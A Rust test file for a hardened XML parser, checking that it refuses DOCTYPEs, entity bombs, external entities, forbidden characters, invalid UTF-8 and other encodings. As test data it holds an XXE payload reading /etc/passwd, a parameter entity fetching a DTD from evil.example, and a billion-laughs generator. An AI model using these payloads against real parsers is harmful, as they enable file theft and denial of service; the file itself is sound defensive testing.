//! What hostile documents try: DTDs and entities, forbidden characters, broken UTF-8, other encodings.

use super::*;

#[test]
fn doctype_is_refused_wherever_it_is() {
    for xml in [
        "<!DOCTYPE a><a/>",
        "<?xml version=\"1.0\"?>\n<!DOCTYPE a SYSTEM \"http://example.com/a.dtd\"><a/>",
        "<!doctype a><a/>",
        "<a/><!DOCTYPE a>",
        "<!DOCTYPE a [<!ELEMENT a ANY>]><a/>",
        "<!DOCTYPE a [",
    ] {
        assert_eq!(refused(xml), XmlError::Doctype, "{xml}");
    }
}

#[test]
fn billion_laughs_is_refused_at_its_doctype() {
    let mut dtd = String::from("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
    for i in 1..10 {
        let previous = if i == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", i - 1)
        };
        dtd.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">",
            format!("&{previous};").repeat(10)
        ));
    }
    let xml = format!("<?xml version=\"1.0\"?>{dtd}]><lolz>&lol9;</lolz>");
    // Refused at the DOCTYPE, before its declarations are read, so nothing is ever expanded.
    assert_eq!(refused(&xml), XmlError::Doctype);
}

#[test]
fn external_entities_are_refused_at_their_doctype() {
    let xxe = r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#;
    assert_eq!(refused(xxe), XmlError::Doctype);
    let parameter =
        r#"<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><foo/>"#;
    assert_eq!(refused(parameter), XmlError::Doctype);
    // Without a DOCTYPE the reference is simply unknown.
    assert_eq!(
        refused("<foo>&xxe;</foo>"),
        XmlError::Entity("xxe".to_owned())
    );
}

#[test]
fn only_predefined_entities_resolve() {
    let tree = read(r#"<a b="&lt;&gt;&amp;&apos;&quot;">&lt;&gt;&amp;&apos;&quot;</a>"#).unwrap();
    assert_eq!(tree.text, "<>&'\"");
    assert_eq!(tree.attribute("b"), Some("<>&'\""));
    assert_eq!(
        refused("<a>&nbsp;</a>"),
        XmlError::Entity("nbsp".to_owned())
    );
    assert_eq!(
        refused(r#"<a b="x&copy;"/>"#),
        XmlError::Entity("copy".to_owned())
    );
    assert!(matches!(refused("<a>&amp</a>"), XmlError::Syntax { .. }));
    assert!(matches!(
        refused(r#"<a b="&amp"/>"#),
        XmlError::Syntax { .. }
    ));
}

#[test]
fn character_references_resolve() {
    let tree = read(r#"<a b="&#65;&#x42;&#x1F600;">&#65;&#x41;&#xE9;&#13;</a>"#).unwrap();
    assert_eq!(tree.text, "AAé\r");
    assert_eq!(tree.attribute("b"), Some("AB😀"));
}

#[test]
fn references_to_characters_xml_forbids_are_refused() {
    for reference in [
        "#0",
        "#x0",
        "#1",
        "#x1F",
        "#xD800",
        "#xDFFF",
        "#x110000",
        "#xFFFE",
        "#99999999999",
        "#x",
        "#-1",
        "#",
    ] {
        assert!(
            matches!(
                refused(&format!("<a>&{reference};</a>")),
                XmlError::CharRef(_)
            ),
            "{reference} in text"
        );
        assert!(
            matches!(
                refused(&format!(r#"<a b="x&{reference};"/>"#)),
                XmlError::CharRef(_)
            ),
            "{reference} in an attribute"
        );
    }
    assert_eq!(
        refused(r#"<a b="&#65;&#1;"/>"#),
        XmlError::CharRef("#1".to_owned())
    );
}

#[test]
fn raw_characters_xml_forbids_are_refused() {
    assert_eq!(refused("<a>\u{1}</a>"), XmlError::InvalidChar(1));
    assert_eq!(refused("<a b=\"\u{0}\"/>"), XmlError::InvalidChar(0));
    assert_eq!(refused("<a>\u{FFFF}</a>"), XmlError::InvalidChar(0xFFFF));
}

#[test]
fn invalid_utf8_is_refused_anywhere() {
    let limits = XmlLimits::default();
    for body in [
        &b"<a>\xFF</a>"[..],
        b"<a\xC3>x</a\xC3>",
        b"<a b=\"\xED\xA0\x80\"/>",
        b"<a/>\xE2\x82",
        b"\xFE\xFF<a/>",
    ] {
        assert!(
            matches!(parse(body, &limits), Err(XmlError::InvalidUtf8 { .. })),
            "{body:?}"
        );
    }
    assert_eq!(
        parse(b"<a>\xFF</a>", &limits),
        Err(XmlError::InvalidUtf8 { at: 3 })
    );
}

#[test]
fn a_bom_is_fine() {
    let tree = parse(
        b"\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"UTF-8\"?><a>x</a>",
        &XmlLimits::default(),
    );
    assert_eq!(tree.unwrap().text, "x");
}

#[test]
fn encodings_other_than_utf8_are_refused() {
    assert!(read(r#"<?xml version="1.0" encoding="utf-8"?><a/>"#).is_ok());
    assert!(read(r#"<?xml version="1.0"?><a/>"#).is_ok());
    for encoding in ["ISO-8859-1", "UTF-16", "windows-1252", "utf8"] {
        assert_eq!(
            refused(&format!(
                r#"<?xml version="1.0" encoding="{encoding}"?><a/>"#
            )),
            XmlError::UnsupportedEncoding(encoding.to_owned())
        );
    }
}
